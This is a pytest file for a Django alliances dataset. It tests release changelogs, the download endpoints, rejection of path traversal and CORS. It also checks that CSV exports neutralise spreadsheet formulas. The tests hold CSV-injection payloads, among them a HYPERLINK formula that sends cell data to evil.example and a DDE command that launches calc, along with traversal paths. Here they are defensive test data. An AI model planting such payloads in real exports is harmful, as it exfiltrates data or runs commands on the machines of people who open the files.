"""make_release records releases with a changelog computed from the data; /downloads/ lists them."""

import csv
import datetime
import io
import json
import re

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client

from alliances.models import Country, Membership, Organization
from alliances.opendata import releases
from alliances.store import audit

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def releases_dir(settings, tmp_path):
    settings.RELEASES_DIR = tmp_path / "releases"
    return settings.RELEASES_DIR


def release():
    out = io.StringIO()
    call_command("make_release", stdout=out, stderr=io.StringIO())
    return out.getvalue()


def test_first_release_then_a_changelog_of_added_ended_and_corrected(releases_dir):
    assert "first release" in release()
    first = audit.data_version()
    with pytest.raises(CommandError, match="released already"):
        release()

    nato = Organization.objects.get(slug="nato")
    Membership.objects.create(
        country=Country.objects.get(iso2="BR"),
        organization=nato,
        status="partner",
        start_date=datetime.date(2030, 1, 1),
    )
    Membership.objects.filter(country__iso2="GB", organization__slug="osce").update(end_date=datetime.date(2030, 1, 1))
    Membership.objects.filter(country__iso2="RO", organization__slug="nato", status="member").update(
        own_status="Corrected own status."
    )
    release()

    current, previous = releases.releases()
    assert previous["version"] == first and current["previous"] == first
    log = current["changelog"]
    assert [(p["country"], p["organization"], p["status"]) for p in log["added"]] == [("BR", "nato", "partner")]
    assert [(p["country"], p["end_date"]) for p in log["ended"]] == [("GB", "2030-01-01")]
    assert [(p["country"], p["changes"]["own_status"][1]) for p in log["corrected"]] == [
        ("RO", "Corrected own status.")
    ]
    assert log["removed"] == []
    assert (releases_dir / current["version"] / "datapackage.json").exists()


def test_downloads_page_and_json_list_the_releases_with_their_files():
    release()
    Membership.objects.filter(country__iso2="RO", organization__slug="nato", status="member").update(
        own_status="Changed."
    )
    release()
    client = Client()
    page = client.get("/downloads/")
    assert page.status_code == 200
    html = page.content.decode()
    version = audit.data_version()
    assert "Current release" in html and version in html and "corrected" in html
    assert f"/downloads/{version}/memberships.csv" in html
    body = client.get("/downloads.json").json()
    assert body["current"] == version and len(body["releases"]) == 2
    assert body["releases"][0]["changelog"]["corrected"][0]["country"] == "RO"
    url = body["releases"][0]["files"]["memberships.csv"]
    response = client.get(url)
    assert response.status_code == 200
    assert f"alliances-memberships-{version}.csv" in response["Content-Disposition"]
    assert b"".join(response.streaming_content).startswith(b"country,organization,status")
    descriptor = json.loads(b"".join(client.get(body["releases"][0]["files"]["datapackage.json"]).streaming_content))
    assert descriptor["version"] == version


def test_downloads_refuse_unknown_files(releases_dir):
    release()
    client = Client()
    version = audit.data_version()
    assert client.get(f"/downloads/{version}/..%2F..%2Fsettings.py").status_code == 404
    assert client.get(f"/downloads/{version}/other.csv").status_code == 404
    assert client.get("/downloads/..%2F/memberships.csv").status_code == 404


def test_downloads_with_no_release():
    assert "No release" in Client().get("/downloads/").content.decode()
    body = Client().get("/downloads.json").json()
    assert body["current"] is None and body["releases"] == []
    assert body["latest"]["version"] == audit.data_version() and "memberships.csv" in body["latest"]["files"]


def test_downloads_are_public_cors():
    response = Client().get("/downloads.json", HTTP_ORIGIN="https://elsewhere.example")
    assert response["Access-Control-Allow-Origin"] == "*"


HOSTILE = {
    "own_status": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "quote": "+SUM(1,2)",
    "cow_igo": "=cmd|' /C calc'!A0",
    "title": "@SUM(A1:A9)",
}


def test_every_csv_of_a_release_neutralises_formulas_as_the_api_does(releases_dir):
    """An own status, a quote, a source title and a COW abbreviation (a panel column's name) that a spreadsheet
    would run: each is written with a leading apostrophe; the panel's numeric codes stay numbers."""
    period = Membership.objects.filter(citations__isnull=False).first()
    Membership.objects.filter(pk=period.pk).update(own_status=HOSTILE["own_status"])
    citation = period.citations.first()
    type(citation).objects.filter(pk=citation.pk).update(quote=HOSTILE["quote"])
    type(citation.source).objects.filter(pk=citation.source_id).update(title=HOSTILE["title"])
    Organization.objects.filter(pk=period.organization_id).update(cow_igo=HOSTILE["cow_igo"])
    release()
    (folder,) = [p for p in releases_dir.iterdir() if p.is_dir()]
    seen = set()
    for path in folder.glob("*.csv"):
        with open(path, encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                        assert re.fullmatch(r"-[0-9]+", cell), (path.name, cell)
                    for value in HOSTILE.values():
                        if cell.endswith(value):
                            assert cell == "'" + value, (path.name, cell)
                            seen.add(value)
    assert seen == set(HOSTILE.values())
    panel = (folder / "cow_igo_panel.csv").read_text(encoding="utf-8")
    assert "\n" in panel and ",-1" in panel  # "organization not in existence" is still the number -1
